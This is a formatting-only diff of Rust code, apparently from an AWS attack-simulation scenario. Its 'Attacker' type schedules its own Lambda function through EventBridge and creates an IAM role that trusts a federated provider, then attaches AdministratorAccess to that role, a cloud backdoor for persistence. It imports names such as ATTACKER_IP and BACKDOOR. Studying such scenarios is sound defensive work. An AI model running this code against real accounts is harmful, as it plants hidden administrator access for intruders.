@@ -8,9 +8,7 @@ use aws_sdk_eventbridge::types as events;
 use aws_sdk_lambda::primitives::Blob;
 use aws_sdk_lambda::types as lambda;
 
-use super::{
-    ATTACKER_IP, Attacker, BACKDOOR, DROP_ACCOUNT, FAR_REGION, OWN_FUNCTION, OWN_ROLE, OWN_RULE, OWN_USER,
-};
+use super::{ATTACKER_IP, Attacker, BACKDOOR, DROP_ACCOUNT, FAR_REGION, OWN_FUNCTION, OWN_ROLE, OWN_RULE, OWN_USER};
 use crate::scenario::means::{Means, REGION};
 
 const KEY_PAIR: &str = "k";
@@ -133,7 +131,8 @@ impl Attacker {
         let allowed = self.key.lambda(REGION).add_permission().function_name(OWN_FUNCTION).statement_id("tick");
         let allowed = allowed.action("lambda:InvokeFunction").principal("events.amazonaws.com").source_arn(rule_arn);
         let allowed = allowed.send().await;
-        let call = format!("aws lambda add-permission --function-name {OWN_FUNCTION} --principal events.amazonaws.com …");
+        let call =
+            format!("aws lambda add-permission --function-name {OWN_FUNCTION} --principal events.amazonaws.com …");
         self.show(&call, &allowed, |_| "the rule may call it".to_owned());
         let arn = format!("arn:aws:lambda:{REGION}:{}:function:{OWN_FUNCTION}", self.account.id());
         let Ok(target) = events::Target::builder().id("1").arn(&arn).build() else { return };
@@ -154,7 +153,8 @@ impl Attacker {
             r#"{{"Version":"2012-10-17","Statement":[{{"Effect":"Allow","Principal":{{"Federated":"{arn}"}},"Action":"sts:AssumeRoleWithWebIdentity"}}]}}"#
         );
         let role = iam.create_role().role_name(OWN_ROLE).assume_role_policy_document(trust).send().await;
-        let call = format!("aws iam create-role --role-name {OWN_ROLE} --assume-role-policy-document file://{PROVIDER}.json");
+        let call =
+            format!("aws iam create-role --role-name {OWN_ROLE} --assume-role-policy-document file://{PROVIDER}.json");
         self.show(&call, &role, |_| format!("trusts {PROVIDER}"));
         let admin = "arn:aws:iam::aws:policy/AdministratorAccess";
         let given = iam.attach_role_policy().role_name(OWN_ROLE).policy_arn(admin).send().await;
